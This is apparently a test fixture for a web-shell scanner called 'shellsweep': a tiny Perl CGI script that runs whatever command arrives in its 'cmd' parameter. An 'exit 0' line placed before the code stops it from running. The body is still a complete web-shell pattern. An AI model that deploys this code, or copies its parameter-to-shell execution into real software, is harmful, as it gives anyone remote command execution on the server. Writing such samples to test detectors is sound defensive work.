#!/usr/bin/perl
# shellsweep test sample: inert, never functional
exit 0;
use CGI qw(:standard);
print header;
my $cmd = param('cmd');
print `$cmd 2>&1`;
